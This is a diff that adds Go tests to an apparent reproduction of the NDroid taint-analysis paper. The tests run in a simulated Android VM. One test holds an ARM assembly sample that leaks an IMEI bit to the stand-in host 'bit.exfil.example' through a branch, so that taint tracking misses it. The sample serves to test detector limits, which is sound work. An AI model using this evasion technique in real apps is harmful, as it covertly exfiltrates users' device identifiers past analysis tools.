@@ -1,0 +1,141 @@
+package core_test
+
+import (
+	"testing"
+
+	"repro/internal/core"
+	"repro/internal/dex"
+	"repro/internal/taint"
+)
+
+// TestControlFlowEvasionIsMissed reproduces the §VII limitation: "Similar to
+// TaintDroid and Droidscope, NDroid does not track control flows. Therefore,
+// it could be evaded by apps that use the same control flow based
+// techniques." The native code below leaks the low bit of the IMEI's last
+// digit purely through a branch — the transmitted byte is a constant, so no
+// taint ever reaches the sink. NDroid (correctly, per its design) reports
+// nothing, while the ground truth shows data derived from the secret left
+// the device.
+func TestControlFlowEvasionIsMissed(t *testing.T) {
+	sys, err := core.NewSystem()
+	if err != nil {
+		t.Fatal(err)
+	}
+	prog, err := sys.VM.LoadNativeLib("libevade.so", `
+; void leakBit(JNIEnv*, jclass, jstring imei)
+Java_leakBit:
+	PUSH {R4, R5, LR}
+	MOV R4, R0
+	MOV R1, R2
+	MOV R2, #0
+	BL GetStringUTFChars
+	MOV R5, R0          ; tainted C chars
+	; c = last digit's low bit
+	BL strlen
+	SUB R0, R0, #1
+	LDRB R1, [R5, R0]   ; tainted byte
+	AND R1, R1, #1      ; still tainted
+	; implicit flow: branch on the tainted value, send a CONSTANT
+	CMP R1, #0
+	BEQ even
+	LDR R5, =msg_one    ; untainted constant "1"
+	B send
+even:
+	LDR R5, =msg_zero   ; untainted constant "0"
+send:
+	MOV R0, #2
+	MOV R1, #1
+	MOV R2, #0
+	BL socket
+	MOV R1, R5
+	MOV R2, #1
+	LDR R3, =host
+	BL sendto
+	POP {R4, R5, PC}
+
+msg_one:
+	.asciz "1"
+msg_zero:
+	.asciz "0"
+host:
+	.asciz "bit.exfil.example"
+	.align 4
+`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	const cls = "Lcom/evade/Main;"
+	cb := dex.NewClass(cls)
+	cb.NativeMethod("leakBit", "VL", dex.AccStatic, 0)
+	cb.Method("run", "V", dex.AccStatic, 1).
+		InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
+		MoveResult(0).
+		InvokeStatic(cls, "leakBit", "VL", 0).
+		ReturnVoid().
+		Done()
+	sys.VM.RegisterClass(cb.Build())
+	if err := sys.VM.BindNative(cls, "leakBit", prog, "Java_leakBit"); err != nil {
+		t.Fatal(err)
+	}
+
+	a := core.NewAnalyzer(sys, core.ModeNDroid)
+	if _, _, _, err := sys.VM.InvokeByName(cls, "run", nil, nil); err != nil {
+		t.Fatal(err)
+	}
+
+	// Ground truth: a secret-derived bit left the device...
+	sent := sys.Kern.Net.SentTo("bit.exfil.example")
+	if len(sent) != 1 || string(sent[0]) != "1" { // IMEI ends in "1" (odd)
+		t.Fatalf("ground truth wrong: %q", sent)
+	}
+	// ...but explicit-flow tracking cannot see it (the documented negative).
+	if len(a.Leaks) != 0 {
+		t.Errorf("NDroid reported %v for a pure control-flow leak; explicit tracking should miss it", a.Leaks)
+	}
+}
+
+// TestOvertaintViaPointerArithmetic documents the flip side of Table V's
+// LDR rule: a load through a tainted pointer taints the result even when the
+// loaded data is public — the deliberate over-approximation the paper adopts
+// ("if the tainted input is the address of an untainted value, the taint
+// will be propagated to it").
+func TestOvertaintViaPointerArithmetic(t *testing.T) {
+	sys, err := core.NewSystem()
+	if err != nil {
+		t.Fatal(err)
+	}
+	prog, err := sys.VM.LoadNativeLib("libtable.so", `
+; int lookup(JNIEnv*, jclass, int idx) — table[idx & 3], table is public
+Java_lookup:
+	AND R2, R2, #3
+	LSL R2, R2, #2
+	LDR R3, =table
+	LDR R0, [R3, R2]
+	BX LR
+table:
+	.word 10, 20, 30, 40
+`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	const cls = "Lcom/table/Main;"
+	cb := dex.NewClass(cls)
+	cb.NativeMethod("lookup", "II", dex.AccStatic, 0)
+	vm := sys.VM
+	vm.RegisterClass(cb.Build())
+	if err := vm.BindNative(cls, "lookup", prog, "Java_lookup"); err != nil {
+		t.Fatal(err)
+	}
+	core.NewAnalyzer(sys, core.ModeNDroid)
+
+	ret, rt, _, err := vm.InvokeByName(cls, "lookup", []uint32{2}, []taint.Tag{taint.IMEI})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if ret != 30 {
+		t.Fatalf("lookup = %d", ret)
+	}
+	if !rt.Has(taint.IMEI) {
+		t.Error("index-derived load should carry the index taint (Table V LDR rule)")
+	}
+}
